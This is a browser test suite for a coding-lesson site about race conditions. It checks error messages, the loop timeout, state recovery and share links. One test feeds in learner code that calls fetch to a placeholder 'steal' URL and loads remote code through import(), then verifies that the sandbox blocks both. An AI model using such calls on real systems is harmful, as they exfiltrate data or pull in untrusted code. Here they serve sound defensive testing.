import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clickLatency, openLesson, openSite, run, type Site } from './site.ts';

let site: Site;
beforeAll(async () => {
  site = await openSite();
});
afterAll(() => site.close());

const settings = { threads: 2, params: { increments: 10 } };

describe('bad input gets a clear message and loses nothing', () => {
  it('stops while (true) {} within its budget, keeps the page responsive, and runs again', async () => {
    const page = await site.page();
    await openLesson(page, site.url, 'race-conditions', {
      code: 'export default function () {\n  while (true) {}\n}\n',
      ...settings,
    });
    const t0 = Date.now();
    await page.getByRole('button', { name: '▶ Run' }).click();
    // While the workers spin, the page must answer a click quickly.
    await page.getByRole('button', { name: 'Running…' }).waitFor();
    // The median of three: a page blocked by the attack is slow in all three, while one spike
    // from this shared 2-core machine (workers starting) does not fail the test.
    const samples = [await clickLatency(page), await clickLatency(page), await clickLatency(page)];
    expect(samples.sort((a, b) => a - b)[1]).toBeLessThan(200);
    await page
      .getByTestId('console')
      .getByText(/Stopped after 5\.0 s/)
      .waitFor({ timeout: 15_000 });
    expect(Date.now() - t0).toBeLessThan(9_000);
    // The next run works: fix the code through the editor's fallback-independent path (Solution).
    await page.getByRole('button', { name: 'Solution' }).click();
    await run(page);
    expect(await page.getByTestId('actual').innerText()).toBe('20');
  });

  it('shows a syntax error with its line, in the output and as a marker in the editor', async () => {
    const page = await site.page();
    await openLesson(page, site.url, 'race-conditions', {
      code: 'export default function (t: Thread) {\n  const x = ;\n}\n',
      ...settings,
    });
    await page.locator('.monaco-editor').waitFor({ timeout: 60_000 });
    await run(page);
    await expect(page.getByTestId('console').innerText()).resolves.toMatch(/Syntax error: Line 2/);
    await page.locator('.monaco-editor .squiggly-error').first().waitFor({ timeout: 10_000 });
    // The marker sits on line 2 of the editor.
    // Both measured in one moment: a panel still loading above the editor may move it between two.
    const gap = await page.evaluate(() => {
      const squiggle = document.querySelector('.monaco-editor .squiggly-error');
      const line2 = [...document.querySelectorAll('.monaco-editor .line-numbers')].find(
        (n) => n.textContent?.trim() === '2',
      );
      if (!squiggle || !line2) return Infinity;
      return Math.abs(squiggle.getBoundingClientRect().y - line2.getBoundingClientRect().y);
    });
    expect(gap).toBeLessThan(12);
  });

  it('shows a runtime error with the thread and the line', async () => {
    const page = await site.page();
    const code =
      'export default function (t: Thread) {\n  if (t.id === 1) {\n    throw new Error("boom");\n  }\n}\n';
    await openLesson(page, site.url, 'race-conditions', { code, ...settings });
    await run(page);
    await expect(page.getByTestId('console').innerText()).resolves.toMatch(
      /Thread 1: Line 3.*boom/,
    );
  });

  it('learner code cannot reach the network: fetch and import() are refused', async () => {
    const page = await site.page();
    const code = `export default function (t: Thread) {
  if (t.id === 0) fetch('https://example.com/steal');
}`;
    await openLesson(page, site.url, 'race-conditions', { code, ...settings });
    await run(page);
    await expect(page.getByTestId('console').innerText()).resolves.toMatch(
      /network access is disabled/,
    );
    const viaImport = `export default function (t: Thread) {
  const load = new Function('u', 'return import(u)');
  load('https://example.com/x.js').catch((e: Error) => t.log('refused: ' + e.message));
  const end = Date.now() + 300; while (Date.now() < end) {}
}`;
    const origin = new URL(site.url).origin;
    const blocked: string[] = [];
    const answered: string[] = [];
    // Network requests only: the pool frame starts its workers from blob: URLs of its own.
    const elsewhere = (url: string) => /^(https?|wss?):/.test(url) && !url.startsWith(origin);
    page.on('requestfailed', (r) => {
      if (elsewhere(r.url())) blocked.push(`${r.url()} ${r.failure()?.errorText}`);
    });
    page.on('requestfinished', (r) => {
      if (elsewhere(r.url())) answered.push(r.url());
    });
    await openLesson(page, site.url, 'race-conditions', { code: viaImport, ...settings });
    await run(page);
    // The sandbox refuses source containing import() before it runs: nothing is even requested.
    await expect(page.getByTestId('console').innerText()).resolves.toMatch(
      /import\(\) is not available in lesson code/,
    );
    expect(blocked).toEqual([]);
    expect(answered).toEqual([]);
  });

  it('recovers from corrupted saved state without a crash', async () => {
    const page = await site.page();
    await page.goto(site.url);
    await page.evaluate(() =>
      localStorage.setItem('interleave:v1:lesson:race-conditions', '{"code": 12, "threads": "x"'),
    );
    await page.goto(`${site.url}#/race-conditions`);
    await page.reload();
    await page.getByRole('heading', { name: 'Race conditions', level: 1 }).waitFor();
    await run(page);
    expect(await page.getByTestId('expected').innerText()).toMatch(/\d/);
    expect(page.errors).toEqual([]);
  });

  it('a garbled share link says so and shows the learner their own code', async () => {
    const page = await site.page();
    await page.goto(`${site.url}#/race-conditions?code=not-a-real-link%%%`);
    await page.getByText(/Could not open the shared code/).waitFor();
    expect(page.errors).toEqual([]);
  });

  it('a share link round-trips the code', async () => {
    const page = await site.page();
    await openLesson(page, site.url, 'race-conditions', {
      code: '// shared by a friend\nexport default function () {}\n',
      ...settings,
    });
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.getByRole('button', { name: 'Share' }).click();
    await page.getByText(/Link copied|address bar now holds/).waitFor();
    const link = await page.evaluate(async () =>
      navigator.clipboard.readText().catch(() => location.href),
    );
    const other = await site.page();
    await other.goto(link);
    await other.getByText('Loaded the code from the shared link.').waitFor();
    await other.locator('.monaco-editor').waitFor({ timeout: 60_000 });
    // Monaco renders spaces as no-break spaces.
    await expect(other.locator('.monaco-editor .view-lines').innerText()).resolves.toMatch(
      /shared\sby\sa\sfriend/,
    );
  });
});
